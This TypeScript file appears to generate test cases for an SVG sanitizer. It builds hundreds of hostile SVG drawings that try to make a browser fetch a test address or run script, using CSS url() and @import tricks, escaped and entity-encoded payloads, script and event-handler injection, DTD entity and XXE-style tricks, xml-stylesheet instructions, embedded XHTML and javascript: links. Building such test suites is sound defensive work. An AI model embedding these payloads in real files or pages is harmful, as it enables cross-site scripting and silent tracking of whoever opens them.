// Drawings that act when a browser opens them: each runs a script that asks for an address, or makes the browser ask for it.

const NS =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:f="urn:f" xmlns:h="http://www.w3.org/1999/xhtml"';
const KEPT = '<rect id="kept" width="9" height="9" fill="#c8102e"/>';
const svg = (inside: string, attributes = '', before = '') =>
  `${before}<svg ${NS} width="90" height="90"${attributes}>${inside}${KEPT}</svg>`;
const escaped = (text: string) => text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
const numbered = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');

/**
 * Every hostile drawing by what it is.
 * @param HIT an address that nothing may ask for
 */
export function hostileDrawings(HIT: string): [name: string, text: string][] {
  const RUN = `new Image().src='${HIT}'`;
  const BOX = 'width="9" height="9"';
  /** Values of CSS that fetch something. */
  const FETCHES: Record<string, string> = {
    'a background': `background:url(${HIT})`,
    'a background in quotes': `background:url("${HIT}")`,
    'a background in capitals': `BACKGROUND:URL(${HIT})`,
    'an escaped url': `background:u\\72l(${HIT})`,
    'an escaped url in quotes': `background:\\75 rl("${HIT}")`,
    'an escaped address': `background:url(\\68 ${HIT.slice(1)})`,
    'blanks in a url': `background:url(  \n ${HIT}\t )`,
    'a remark before it': `background:/**/url(${HIT})`,
    'an unclosed url': `background:url(${HIT}`,
    'an unclosed url in quotes': `background:url("${HIT}`,
    'image-set': `background:image-set("${HIT}" 1x)`,
    'image-set with url': `background:image-set(url(${HIT}) 1x, url(#a) 2x)`,
    'an older image-set': `background:-webkit-image-set(url(${HIT}) 1x)`,
    'cross-fade': `background:-webkit-cross-fade(url(${HIT}), url(#a), 50%)`,
    'a second layer': `background:url(#a),url(${HIT})`,
    'a picture of a list': `display:list-item;list-style-image:url(${HIT})`,
    'a border': `border:9px solid;border-image:url(${HIT}) 1`,
    'a mask': `mask:url(${HIT}m.svg#a)`,
    'an older mask': `-webkit-mask-image:url(${HIT})`,
    'a filter': `filter:url(${HIT}f.svg#a)`,
    'a clip': `clip-path:url(${HIT}c.svg#a)`,
    'a fill': `fill:url(${HIT}p.svg#a)`,
    'a marker': `marker-start:url(${HIT}m.svg#a)`,
    'a cursor': `cursor:url(${HIT}),auto`,
    content: `content:url(${HIT})`,
    'a shape': `float:left;shape-outside:url(${HIT})`,
    'a variable': `--a:url(${HIT});background:var(--a)`,
    'a variable with a fallback': `background:var(--none,url(${HIT}))`,
    'after another value': `fill:red;;;background:url(${HIT})`,
    src: `background:src("${HIT}")`,
    image: `background:image("${HIT}")`,
  };

  const ROOT = 'svg,rect,text';

  function* families(): Generator<[string, string]> {
    // styles, in every place and notation a style may have
    for (const [name, css] of Object.entries(FETCHES)) {
      yield [`${name}, in a sheet`, svg(`<style>${ROOT}{${escaped(css)}}</style>`)];
      yield [`${name}, of the root`, svg('', ` style="${escaped(css)}"`)];
      yield [`${name}, in a section`, svg(`<style><![CDATA[${ROOT}{${css}}]]></style>`)];
    }
    for (const [name, css] of Object.entries(FETCHES).slice(0, 8)) {
      yield [`${name}, in numbers`, svg('', ` style="${numbered(css)}"`)];
      yield [
        `${name}, in an entity`,
        svg('', ' style="&a;"', `<!DOCTYPE svg [<!ENTITY a "${numbered(css)}">]>`),
      ];
      yield [`${name}, between remarks`, svg(`<style>${ROOT}{<!-- a -->${escaped(css)}<!-- b -->}</style>`)];
    }
    const sheets: Record<string, string> = {
      'an import': `@import "${HIT}";`,
      'an import by url': `@import url(${HIT});`,
      'an import without end': `@import "${HIT}"`,
      'an import in capitals': `@IMPORT '${HIT}';`,
      'an escaped import': `@\\69mport "${HIT}";`,
      'an import in two parts of text': `@im<!-- x -->port "${HIT}";`,
      'an import in two sections': `<![CDATA[@im]]><![CDATA[port "${HIT}";]]>`,
      'an import with a section inside': `@import <![CDATA["${HIT}"]]>;`,
      'an import behind what is not known': `@charset "utf-8";@import "${HIT}";`,
      'an import into a layer': `@import url("${HIT}") layer(a);`,
      'an import with a script that is cut out of it': `@im<script/>port "${HIT}";`,
      'a url with a script that is cut out of it': `svg{background:u<script/>rl(${HIT})}`,
      'an import in numbers': `&#64;import &#34;${HIT}&#34;;`,
      'a font': `@font-face{font-family:a;src:url(${HIT})}text{font-family:a}`,
      'a font in several formats': `@font-face{font-family:a;src:local("b"),url(${HIT}) format("woff2")}text{font-family:a}`,
      'a rule in a rule': `@media all{@supports (fill:red){svg{background:url(${HIT})}}}`,
      'a nested rule': `svg{& rect{fill:red}background:url(${HIT})}`,
      keyframes: `@keyframes a{from,to{background:url(${HIT})}}svg{animation:a 9s}`,
      'a rule behind an unclosed text': `a{content:"\n}svg{background:url(${HIT})}`,
      'a rule behind an unclosed bracket': `a{fill:red;(}svg{background:url(${HIT})}`,
      'a counter style': `@counter-style a{system:cyclic;symbols:url(${HIT})}`,
      'a rule after a cut rule': `a{fill:url(//x)}svg{background:url(${HIT})}`,
    };
    for (const [name, sheet] of Object.entries(sheets))
      yield [name, svg(`<style>${sheet}</style><text y="9">a</text>`)];
    for (const name of ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-end', 'cursor']) {
      yield [`“${name}” as an attribute`, svg(`<path d="M0 0L9 9" ${name}="url(${HIT}a.svg#a)"/>`)];
      yield [`“${name}” without end`, svg(`<path d="M0 0L9 9" ${name}="url('${HIT}a.svg#a"/>`)];
    }

    // references, and those that hide each other
    for (const [element, rest] of [
      ['image', BOX],
      ['use', ''],
      ['feImage', ''],
      ['linearGradient', ''],
      ['pattern', ''],
      ['script', ''],
      ['textPath', ''],
    ]) {
      const use = (attributes: string) =>
        element === 'feImage'
          ? svg(`<filter id="q"><feImage ${attributes}/></filter><rect ${BOX} filter="url(#q)"/>`)
          : svg(`<${element} ${attributes} ${rest}/>`);
      yield [`${element} by href`, use(`href="${HIT}a.svg#a"`)];
      yield [`${element} by xlink:href`, use(`xlink:href="${HIT}a.svg#a"`)];
      yield [`${element} behind another href`, use(`href="${HIT}a.svg#a" f:href="#kept"`)];
      yield [`${element} before another href`, use(`f:href="#kept" xlink:href="${HIT}a.svg#a"`)];
      yield [
        `${element} by another prefix`,
        use(`xmlns:y="http://www.w3.org/1999/xlink" y:href="${HIT}a.svg#a"`),
      ];
      yield [`${element} with a base`, svg(`<${element} href="a.svg#a" ${rest}/>`, ` xml:base="${HIT}"`)];
    }
    yield ['an image in numbers', svg(`<image ${BOX} href="${numbered(HIT)}"/>`)];
    yield ['an image with a srcset', svg(`<h:img src="data:," srcset="${HIT} 1x"/>`)];
    yield [
      'a drawing in an image',
      svg(
        `<image ${BOX} href="data:image/svg+xml,${encodeURIComponent(svg(`<image ${BOX} href="${HIT}"/>`))}"/>`,
      ),
    ];
    yield [
      'a drawing that is called a picture',
      svg(`<use href="data:image/png;base64,${btoa(svg('<script>1</script>'))}#kept"/>`),
    ];

    // scripts and events
    const scripts: Record<string, string> = {
      'a script': `<script>${RUN}</script>`,
      'a script in a section': `<script><![CDATA[${RUN}]]></script>`,
      'a module': `<script type="module">${RUN}</script>`,
      'a script of data': `<script href="data:text/javascript,${encodeURIComponent(RUN)}"/>`,
      'a script with a prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
      'a script in a note': `<f:note><script>${RUN}</script></f:note>`,
      'a script in metadata': `<metadata><f:note><s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script></f:note></metadata>`,
      'a script of XHTML': `<h:script>${RUN}</h:script>`,
      'a script of XHTML by default': `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
      'a script in a foreign object': `<foreignObject ${BOX}><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></foreignObject>`,
      'a script in a style': `<style><script>${RUN}</script></style>`,
      'a script in a title': `<title><script>${RUN}</script></title>`,
      'a script in a description': `<desc><h:script>${RUN}</h:script></desc>`,
      'a script in a switch': `<switch><script>${RUN}</script><rect ${BOX}/></switch>`,
      'a script in definitions': `<defs><script>${RUN}</script></defs>`,
      'two scripts in each other': `<script/><script>${RUN}</script>`,
      'an event of an image': `<image ${BOX} href="data:image/png;base64,x" onerror="${RUN}"/>`,
      'an event in numbers': `<image ${BOX} href="data:image/png;base64,x" onerror="${numbered(RUN)}"/>`,
      'an event that another hides': `<image ${BOX} href="data:image/png;base64,x" onerror="${RUN}" f:onerror="x"/>`,
      'an event of an inner drawing': `<svg onload="${RUN}"/>`,
      'an event of a style': `<style onload="${RUN}">a{}</style>`,
      'an event of an animation': `<rect ${BOX}><animate attributeName="x" dur="1s" onbegin="${RUN}"/></rect>`,
      'an event of a set': `<set attributeName="x" to="1" onbegin="${RUN}"/>`,
      'a set event': `<image ${BOX} href="data:image/png;base64,x"><set attributeName="onerror" to="${RUN}"/></image>`,
      'an animated href': `<image ${BOX} href="#a"><animate attributeName="href" values="${HIT};${HIT}" dur="9s"/></image>`,
      'an animated href with a prefix': `<image ${BOX} xlink:href="#a"><set attributeName="xlink:href" to="${HIT}"/></image>`,
      'an animated style': `<rect ${BOX}><set attributeName="style" to="background:url(${HIT})"/></rect>`,
      'an animated fill': `<rect ${BOX}><set attributeName="fill" to="url(${HIT}a.svg#a)"/></rect>`,
      'an animated filter': `<rect ${BOX}><animate attributeName="filter" values="url(${HIT}a.svg#a)" dur="9s"/></rect>`,
      'a handler': `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
    };
    for (const [name, inside] of Object.entries(scripts)) yield [name, svg(inside)];
    yield ['an event of the root', svg('', ` onload="${RUN}"`)];
    yield ['an event of the root that another hides', svg('', ` onload="${RUN}" f:onload="x"`)];
    yield [
      'an event of a root with a prefix',
      `<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="${RUN}"><s:rect id="kept" ${BOX} fill="#c8102e"/></s:svg>`,
    ];
    yield [
      'an animation of the root',
      svg('', ' onbegin="x"').replace(
        '<rect id',
        `<animate attributeName="x" begin="0s" dur="1s" onbegin="${RUN}"/><rect id`,
      ),
    ];

    // what comes before the root
    const attlist = `<!ATTLIST svg onload CDATA "${RUN}">`;
    for (const [name, before] of Object.entries({
      'a default attribute': `<!DOCTYPE svg [${attlist}]>`,
      'a default attribute behind a remark': `<!-- a --><!DOCTYPE svg [${attlist}]>`,
      'a default attribute behind a remark of a document type': `<!-- <!DOCTYPE svg> --><!DOCTYPE svg [${attlist}]>`,
      'a default attribute behind an instruction': `<?a <!DOCTYPE svg> ?><!DOCTYPE svg [${attlist}]>`,
      'a default attribute behind a quote in a remark': `<!DOCTYPE svg [<!-- ' ]> -->${attlist}]>`,
      'a default attribute behind a usual document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [${attlist}]>`,
      'a default style': `<!DOCTYPE svg [<!ATTLIST svg style CDATA "background:url(${HIT})">]>`,
      'a default href': `<!DOCTYPE svg [<!ATTLIST image href CDATA "${HIT}">]>`,
      'a stylesheet': `<?xml-stylesheet href="${HIT}" type="text/css"?>`,
      'a stylesheet with > in its title': `<?xml-stylesheet title="a>b" href="${HIT}" type="text/css"?>`,
      'a stylesheet with ?&gt; nearly in it': `<?xml-stylesheet title="? >" href="${HIT}" type="text/css"?>`,
      'a stylesheet behind a remark': `<!-- ?> --><?xml-stylesheet href="${HIT}" type="text/css"?>`,
      'two stylesheets': `<?xml-stylesheet href="#a" type="text/css"?><?xml-stylesheet href="${HIT}" type="text/css"?>`,
      'a transformation': `<?xml-stylesheet href="${HIT}" type="text/xsl"?>`,
      'a stylesheet behind a document type': `<!DOCTYPE svg><?xml-stylesheet href="${HIT}" type="text/css"?>`,
      'an external document type': `<!DOCTYPE svg SYSTEM "${HIT}">`,
    }))
      yield [name, svg(`<image ${BOX}/>`, '', before)];
    for (const [name, entities, inside] of [
      ['an entity of markup', `<!ENTITY a "<script>${RUN}</script>">`, '&a;'],
      ['an entity of an image', `<!ENTITY a '<image ${BOX} href="${HIT}"/>'>`, '<g>&a;</g>'],
      ['an entity in an entity', `<!ENTITY b "<script>${RUN}</script>"><!ENTITY a "&b;">`, '&a;'],
      ['an entity as an event', `<!ENTITY a "${RUN}">`, `<image ${BOX} href="data:," onerror="&a;"/>`],
      ['an entity as an address', `<!ENTITY a "${HIT}">`, `<image ${BOX} href="&a;"/>`],
      ['an entity in a sheet', `<!ENTITY a "@import '${HIT}';">`, '<style>&a;</style>'],
      ['an entity as half a sheet', `<!ENTITY a "port">`, `<style>@im&a; "${HIT}";</style>`],
      [
        'an entity as a namespace',
        `<!ENTITY a "http://www.w3.org/1999/xhtml">`,
        `<x:img xmlns:x="&a;" src="${HIT}"/>`,
      ],
      ['an entity of a parameter', `<!ENTITY % p "<!ENTITY a '${HIT}'>"> %p;`, `<image ${BOX} href="&a;"/>`],
      ['an external entity', `<!ENTITY a SYSTEM "${HIT}">`, '<text>&a;</text>'],
      ['an external parameter', `<!ENTITY % p SYSTEM "${HIT}"> %p;`, ''],
    ] as const)
      yield [name, svg(inside, '', `<!DOCTYPE svg [${entities}]>`)];

    // XHTML and its like
    for (const html of [
      `<h:img src="${HIT}"/>`,
      `<h:img srcset="${HIT} 2x"/>`,
      `<h:img src="x" onerror="${RUN}"/>`,
      `<h:picture><h:source srcset="${HIT}"/><h:img/></h:picture>`,
      `<h:video poster="${HIT}"/>`,
      `<h:video src="${HIT}" autoplay=""/>`,
      `<h:audio src="${HIT}" autoplay=""/>`,
      `<h:iframe src="${HIT}"/>`,
      `<h:iframe srcdoc="&lt;img src=${HIT}&gt;"/>`,
      `<h:object data="${HIT}"/>`,
      `<h:embed src="${HIT}"/>`,
      `<h:link rel="stylesheet" href="${HIT}"/>`,
      `<h:link rel="preload" as="image" href="${HIT}"/>`,
      `<h:link rel="icon" href="${HIT}"/>`,
      `<h:style>@import "${HIT}";</h:style>`,
      `<h:body background="${HIT}"/>`,
      `<h:table background="${HIT}"><h:tr><h:td>a</h:td></h:tr></h:table>`,
      `<h:div style="background:url(${HIT});width:9px;height:9px">a</h:div>`,
      `<h:input type="image" src="${HIT}"/>`,
      `<h:input autofocus="" onfocus="${RUN}"/>`,
      `<h:meta http-equiv="refresh" content="0;url=${HIT}"/>`,
      `<h:base href="${HIT}"/><image ${BOX} href="a.png"/>`,
      `<h:form action="${HIT}"><h:button autofocus="">a</h:button></h:form>`,
      `<h:details open="" ontoggle="${RUN}">a</h:details>`,
      `<h:marquee onstart="${RUN}">a</h:marquee>`,
      `<img xmlns="http://www.w3.org/1999/xhtml" src="${HIT}"/>`,
      `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="${HIT}"><m:mi style="background:url(${HIT})">a</m:mi></m:math>`,
    ]) {
      yield [
        `in a foreign object: ${html.slice(0, 40)}`,
        svg(`<foreignObject width="80" height="80">${html}</foreignObject>`),
      ];
      yield [`by itself: ${html.slice(0, 40)}`, svg(html)];
    }
    yield ['a link with a ping', svg(`<a href="#kept" ping="${HIT}"><rect id="press" ${BOX}/></a>`)];
    yield ['a link to a script', svg(`<a href="javascript:${RUN}"><rect id="press" ${BOX}/></a>`)];
    yield [
      'a link to a script with a blank in it',
      svg(`<a xlink:href="java&#10;script:${RUN}"><rect id="press" ${BOX}/></a>`),
    ];
    yield [
      'a link to a script that another hides',
      svg(`<a href="javascript:${RUN}" f:href="#kept"><rect id="press" ${BOX}/></a>`),
    ];
    yield ['a link elsewhere', svg(`<a href="${HIT}"><rect id="press" ${BOX}/></a>`)];
  }

  return [...families()];
}
